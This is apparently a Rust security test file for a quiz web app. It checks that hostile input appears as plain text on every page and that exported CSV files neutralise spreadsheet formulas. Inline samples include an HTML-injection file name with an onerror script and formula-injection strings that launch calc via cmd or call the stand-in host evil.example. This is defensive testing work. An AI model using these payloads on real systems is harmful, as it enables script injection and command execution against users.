//! What somebody hostile writes is text on every page: a bank with payloads in every field, and a learner who types them
//! everywhere, see the same elements and attributes as with harmless words in their place.

use std::collections::{BTreeMap, BTreeSet};

use factdeck::bank::Severity;
use scraper::{Html, Node};

use crate::support::browser::encode;
use crate::support::{Page, School, Student};

const PAYLOADS: &str = include_str!("data/hostile/payloads.txt");
const BANK: &str = include_str!("data/hostile/hostile.toml");
const DOCUMENT: &str = include_str!("data/hostile/documents/hostile.txt");
const VOICE: &str = include_str!("data/hostile/documents/voice.txt");
const BOAT: &[u8] = include_bytes!("data/every/pictures/boat.png");

/// So many letters of payloads stand in a field at once: a title must not be longer.
const ROOM: usize = 220;

/// How many tags a question has: more than there are payloads at once.
const TAGS: usize = 9;

/// What stands in the places of the bank and is typed.
#[derive(Debug, Clone)]
struct Words {
    /// Several payloads one after the other.
    all: String,
    /// The same one by one, for tags: always as many.
    tags: [String; TAGS],
}

impl Words {
    /// The payloads in groups that have room in a title; those with lines of their own are kept together.
    fn hostile() -> Vec<Self> {
        let mut groups: Vec<Vec<String>> = vec![Vec::new()];
        for payload in PAYLOADS.lines().map(|line| line.replace("\\n", "\n")) {
            let last = groups.last_mut().unwrap();
            let length: usize = last.iter().map(|other| other.chars().count() + 1).sum();
            let is_other = last
                .iter()
                .any(|other| other.contains('\n') != payload.contains('\n'));
            if length + payload.chars().count() > ROOM || is_other {
                groups.push(vec![payload]);
            } else {
                last.push(payload);
            }
        }
        let words = groups.into_iter().map(|group| Self {
            all: group.join(" "),
            tags: std::array::from_fn(|tag| {
                let payload = group.get(tag).map_or("x", String::as_str);
                format!("tag {tag} {payload}")
            }),
        });
        words.collect()
    }

    /// Words that no page could be harmed by, in one paragraph or more.
    fn harmless(lines: bool) -> Self {
        Self {
            all: if lines {
                "x\n\nmore words"
            } else {
                "plain words"
            }
            .into(),
            tags: std::array::from_fn(|tag| format!("tag {tag}")),
        }
    }

    /// In one line.
    fn line(&self) -> String {
        line(&self.all)
    }

    /// A template filled in; in a bank file within quotation marks, in a document as it is.
    fn fill(&self, template: &str, quoted: impl Fn(&str) -> String) -> String {
        let special = |c: char| matches!(c, '{' | '}' | '|' | '\\');
        let cloze = self
            .all
            .chars()
            .flat_map(|c| special(c).then_some('\\').into_iter().chain([c]));
        let tags: Vec<String> = self
            .tags
            .iter()
            .map(|tag| format!("\"{}\"", quoted(&line(tag))))
            .collect();
        template
            .replace("@text", &quoted(&self.line()))
            .replace("@rich", &quoted(&self.all))
            .replace("@cloze", &quoted(&cloze.collect::<String>()))
            .replace("@tags", &tags.join(", "))
    }

    fn school(&self) -> School {
        let toml = |text: &str| {
            let quoted = serde_json::to_string(text).unwrap();
            quoted[1..quoted.len() - 1].to_owned()
        };
        // What is wrong in a file is shown to its teacher, with the lines.
        let broken = "format = 1\n'@text' = 1\nid = \"@text\"\n[[question]]\nid = \"@text\"\ntype = \"@text\"\nprompt = 1";
        let plain = str::to_owned;
        let school = School::new(&[
            ("documents/hostile.txt", &self.fill(DOCUMENT, plain)),
            ("documents/voice.txt", &self.fill(VOICE, plain)),
            ("hostile.toml", &self.fill(BANK, toml)),
            (
                "\"><img src=x onerror='alert(0)'>.toml",
                &self.fill(broken, toml),
            ),
        ]);
        school.write_bytes("pictures/boat.png", BOAT);
        let files = factdeck::authoring::Shelf::files(&*school.library);
        let bank = files
            .iter()
            .find(|file| file.file.contains("hostile"))
            .unwrap();
        let errors = bank
            .findings
            .iter()
            .filter(|finding| finding.severity == Severity::Error);
        assert_eq!(errors.count(), 0, "{:?}", bank.findings);
        school
    }
}

fn line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A learner and a teacher who go everywhere and type the words wherever anything can be typed.
struct Tour<'a> {
    words: &'a Words,
    school: &'a School,
    one: Student,
    seen: Vec<(String, Page)>,
}

impl Tour<'_> {
    fn note(&mut self) {
        self.seen
            .push((self.one.path.clone(), self.one.page.clone()));
    }

    fn go(&mut self, path: &str) {
        self.one.try_to_go(path);
        self.note();
    }

    fn send(&mut self, action: &str, fields: &[(&str, &str)]) {
        self.one.send(action, fields);
        self.note();
    }

    /// Answers the question at hand with whatever it takes, typed words being the hostile ones; a text with gaps first
    /// so that it is asked again with what was typed.
    fn answer(&mut self) {
        let action = self.one.action();
        self.note();
        if !self.one.all("[name=gap-2]").is_empty() {
            let text = self.words.all.clone();
            self.send(&action, &[("gap-1", &text), ("gap-2", "no option")]);
            assert_eq!(self.one.page.status, 422);
        }
        let judged = self.one.is_judged();
        let given = self.one.anything(&self.words.all);
        let show: &[(&str, &str)] = if judged { &[("show", "yes")] } else { &[] };
        self.one.send_with(&action, &given, show);
        self.note();
        if judged && self.one.path == action {
            let verdict = [("judged", "yes"), ("recalled", "no"), ("met-1", "yes")];
            let wanted = if self.one.all("button[name=judged]").is_empty() {
                &verdict[1..2]
            } else {
                &verdict[..1]
            };
            self.send(&action, wanted);
        }
    }

    /// Claims and reports the answer at hand, where that is offered.
    fn say(&mut self) {
        if !self.one.all("form[action$='/claim']").is_empty() {
            self.send("/claim", &[]);
        }
        if !self.one.all("form[action$='/report']").is_empty() {
            let text = self.words.all.clone();
            self.send("/report", &[("kind", "unfair"), ("text", &text)]);
        }
    }

    fn around(&mut self) {
        for path in [
            "/",
            "/banks/hostile",
            "/banks/hostile/read/doc",
            "/banks/hostile/read/doc?open=0",
            "/banks/hostile/read/doc?from=0&to=11",
            "/banks/hostile/read/voice",
            "/study/hostile/plan",
            "/quiz",
            "/progress",
            "/progress/erase",
            "/settings",
            "/resume",
            "/help",
            "/privacy",
            "/teach",
        ] {
            self.go(path);
        }
    }

    /// Addresses that hold the words.
    fn addresses(&mut self, paths: &[&str]) {
        let encoded = encode(&[("", &self.words.all)]);
        for path in paths {
            for name in [
                "tag", "type", "show", "stale", "claim", "report", "from", "undone",
            ] {
                let sign = if path.contains('?') { '&' } else { '?' };
                self.go(&format!("{path}{sign}{name}{encoded}"));
            }
        }
        self.go(&format!("/banks/{}", &encoded[1..]));
    }

    fn quiz(&mut self, feedback: &str) {
        self.one.go("/banks/hostile");
        self.send("/quiz", &[("count", "all"), ("feedback", feedback)]);
        let quiz = self.one.path.rsplit_once('/').unwrap().0.to_owned();
        for item in 1..=12 {
            self.one.go(&format!("{quiz}/{item}"));
            self.answer();
            self.go(&format!("{quiz}/{item}"));
            self.say();
        }
        if feedback == "end" {
            self.go(&format!("{quiz}/summary"));
            self.send("/submit", &[]);
        }
        self.go(&format!("{quiz}/result"));
        self.go(&format!("{quiz}/result?show=missed"));
        self.go("/quiz");
        if feedback == "each" {
            self.addresses(&[
                "/banks/hostile",
                "/banks/hostile/read/doc",
                &format!("{quiz}/1"),
            ]);
        }
    }

    fn study(&mut self) {
        self.one.study("hostile");
        let sitting = self.one.path.clone();
        for _ in 0..16 {
            self.one.go(&sitting);
            if !self.one.is_asked() {
                break;
            }
            self.answer();
            if !self.one.all("form[action$='/undo']").is_empty() {
                self.send("/undo", &[]);
                self.answer();
            }
            self.say();
        }
        self.addresses(&[&sitting]);
        self.go(&format!("{sitting}?stop=yes"));
    }

    fn forms(&mut self) {
        let text = self.words.all.clone();
        for (path, action, field) in [
            ("/study/hostile/plan", "/plan", "exam"),
            ("/settings", "/settings", "paper"),
            ("/resume", "/resume", "words"),
            ("/banks/hostile", "/quiz", "tag"),
            ("/banks/hostile", "/quiz", "count"),
        ] {
            self.one.go(path);
            self.send(action, &[(field, &text)]);
        }
        self.one.go("/banks/hostile");
        self.send("/quiz", &[("tag", &text), ("look", "yes")]);
    }

    fn teach(&mut self) {
        let text = self.words.all.clone();
        self.one = Student::at(self.school.browser(), "/teach");
        let good = [("password", "ash elk oar"), ("again", "ash elk oar")];
        self.send(
            "/teach/new",
            &[&[("code", &*text), ("name", "Ann")], &good[..]].concat(),
        );
        let seen = text.chars().filter(|c| !c.is_control());
        let name: String = seen.take(50).collect();
        self.send("/teach/new", &[("name", &name), ("password", "short")]);
        self.one = Student::at(self.school.server().session(true).0, "/teach");
        self.note();
        self.go("/teach/account");
        self.send("/teach/account", &[&[("old", &*text)], &good[..]].concat());
        self.go("/teach/people");
        self.send("/teach/people", &[]);
        // Who is no teacher any more types it where teachers sign in.
        self.one = Student::at(self.school.browser(), "/teach");
        self.send("/teach", &[("name", &text), ("password", &text)]);
        self.addresses(&["/teach", "/teach/new"]);
    }
}

/// Every page there is, in one order.
fn tour(words: &Words) -> Vec<(String, Page)> {
    let school = words.school();
    let one = Student::at(school.browser(), "/");
    let mut tour = Tour {
        words,
        school: &school,
        one,
        seen: Vec::new(),
    };
    tour.around();
    tour.quiz("each");
    tour.quiz("end");
    tour.study();
    tour.forms();
    tour.around();
    tour.teach();
    tour.seen
}

/// Tags that Markdown makes, which have no attributes.
const MARKDOWN: [&str; 12] = [
    "p",
    "br",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "sup",
    "sub",
];

/// Attributes that hold words.
const WORDS: [&str; 4] = ["value", "alt", "aria-label", "content"];

/// The elements of a page with their attributes, numbers left out, and how many there are of each; and all its words.
fn skeleton(body: &str) -> (BTreeMap<String, usize>, String) {
    let html = Html::parse_document(body);
    let (mut elements, mut words) = (BTreeMap::new(), String::new());
    for node in html.tree.values() {
        match node {
            Node::Text(text) => words += text,
            Node::Comment(_) | Node::ProcessingInstruction(_) => {
                *elements.entry("a comment".into()).or_default() += 1;
            }
            Node::Element(element) => {
                let mut attributes: Vec<String> = Vec::new();
                for (name, value) in element.attrs() {
                    let is_words = WORDS.contains(&name);
                    if is_words {
                        words.extend([" ", value, " "]);
                    }
                    let value: String = value
                        .chars()
                        .filter(|c| !c.is_ascii_digit() && !is_words)
                        .collect();
                    attributes.push(format!("{name}={value:?}"));
                }
                attributes.sort();
                if !(attributes.is_empty() && MARKDOWN.contains(&element.name())) {
                    let element = format!("{} {}", element.name(), attributes.join(" "));
                    *elements.entry(element).or_default() += 1;
                }
            }
            _ => {}
        }
    }
    (elements, line(&words))
}

/// The words before each place of a template that stands for hostile ones of this kind.
fn fields(template: &str, kind: &str) -> BTreeSet<String> {
    let lines: Vec<&str> = template
        .lines()
        .filter(|line| !line.starts_with('#'))
        .collect();
    let text = lines.join("\n");
    let pieces: Vec<&str> = text.split(kind).collect();
    let (_, before) = pieces.split_last().unwrap();
    let words = before.iter().map(|piece| {
        let from = piece
            .rfind(['"', '{', '}', '.', '\n'])
            .map_or(0, |at| at + 1);
        piece[from..].trim().to_owned()
    });
    words.filter(|words| !words.is_empty()).collect()
}

/// What no page shows: other names of things.
const UNSEEN: [&str; 1] = ["alias"];

#[test]
fn hostile_words_are_words_on_every_page() {
    let plain = [false, true].map(|lines| tour(&Words::harmless(lines)));
    for hostile in Words::hostile() {
        let (pages, plain) = (
            tour(&hostile),
            &plain[usize::from(hostile.all.contains('\n'))],
        );
        assert_eq!(pages.len(), plain.len());
        let mut corpus = String::new();
        for ((path, page), (_, other)) in pages.iter().zip(plain) {
            assert_eq!(page.status, other.status, "{path}: {page:?}");
            let ((elements, words), (expected, _)) = (skeleton(&page.body), skeleton(&other.body));
            if path.contains("/read/") {
                // Where a document is divided into sentences follows its words.
                let new: Vec<&String> = elements
                    .keys()
                    .filter(|element| !expected.contains_key(*element))
                    .collect();
                assert_eq!(new, Vec::<&String>::new(), "{path}");
            } else {
                assert_eq!(elements, expected, "{path}");
            }
            corpus += &words;
            corpus.push('\n');
        }
        // Every field was shown somewhere, and as it was written.
        let marks = ['*', '_', '`', '[', '\\', '&', '~', '^', '\n'];
        let mut unseen = Vec::new();
        for (template, kind) in [
            (BANK, "@text"),
            (BANK, "@rich"),
            (BANK, "@cloze"),
            (DOCUMENT, "@text"),
            (VOICE, "@text"),
        ] {
            let whole = kind == "@text" || !hostile.all.contains(marks);
            for field in fields(template, kind) {
                let shown = if whole {
                    format!("{field} {}", hostile.line())
                } else {
                    field.clone()
                };
                if !corpus.contains(&shown) {
                    unseen.push(field);
                }
            }
        }
        assert_eq!(unseen, UNSEEN, "{hostile:?}");
    }
}

/// What a spreadsheet would take for a formula.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"//evil.example/20\",\"press\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝IMPORTXML(\"//evil.example/21\",\"//a\")",
    "=1+1\",=2+2,\"",
    "=1;=2",
    "\"=1+1\"",
];

/// With which a cell begins that is a formula.
const SIGNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// The rows of a table as RFC 4180 has it.
fn table(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => {
                assert!(
                    quoted || cell.is_empty(),
                    "a quotation mark within {cell:?}"
                );
                quoted = !quoted;
            }
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
    }
    assert!(
        !quoted && row.is_empty() && cell.is_empty(),
        "cut off: {row:?} {cell:?}"
    );
    rows
}

/// A learner's own file.
fn take(one: &mut Student, path: &str, kind: &str) -> String {
    one.go("/progress");
    let form = one.page.form(path);
    let fields = form.fields.iter();
    let fields: Vec<(&str, &str)> = fields
        .map(|(name, value)| (name.as_str(), value.as_str()))
        .collect();
    let file = one.browser.post(path, &fields);
    assert_eq!(file.status, 200);
    assert!(file.header("content-type").unwrap().starts_with(kind));
    assert_eq!(file.header("x-content-type-options"), Some("nosniff"));
    let name = file.header("content-disposition").unwrap();
    assert!(
        name.starts_with("attachment; filename=\"factdeck-"),
        "{name}"
    );
    file.body
}

#[test]
fn files_to_take_away_hold_hostile_words_as_words() {
    let formulas = FORMULAS.map(|formula| Words {
        all: formula.into(),
        ..Words::harmless(false)
    });
    for words in Words::hostile().into_iter().chain(formulas) {
        let school = words.school();
        let mut tour = Tour {
            words: &words,
            school: &school,
            one: Student::at(school.browser(), "/"),
            seen: Vec::new(),
        };
        tour.quiz("end");
        let mut one = tour.one;

        let rows = table(&take(&mut one, "/progress/reviews", "text/csv"));
        assert!(rows.len() > 10, "{rows:?}");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(SIGNS), "{cell:?}");
        }
        let (heads, answers) = rows.split_first().unwrap();
        assert!(
            answers.iter().all(|row| row.len() == heads.len()),
            "{rows:?}"
        );
        let column = |name: &str| heads.iter().position(|head| head == name).unwrap();
        let (kind, answer, prompt) = (column("type"), column("answer"), column("prompt"));
        let typed = answers.iter().find(|row| row[kind] == "short").unwrap();
        let given = typed[answer].strip_prefix('\'').unwrap_or(&typed[answer]);
        assert_eq!(line(given), words.line());
        assert!(
            answers
                .iter()
                .any(|row| line(&row[prompt]).contains(&words.line())),
            "{rows:?}"
        );

        let events = take(&mut one, "/progress/events", "application/jsonl");
        let mut said = Vec::new();
        for event in events.lines() {
            let event: serde_json::Value = serde_json::from_str(event).unwrap();
            said.extend(event["given"]["text"].as_str().map(line));
        }
        assert!(said.contains(&words.line()), "{said:?}");
    }
}

/// A page is printed as it is shown: its print style puts no words and nothing from elsewhere on paper.
#[test]
fn printing_adds_nothing_to_a_page() {
    let style = include_str!("../templates/style.css");
    let (_, print) = style.split_once("@media print").unwrap();
    for adds in ["attr(", "url(", "@import"] {
        assert!(!style.contains(adds), "{adds}");
    }
    assert!(
        !print.replace("justify-content:", "").contains("content:"),
        "{print}"
    );
}
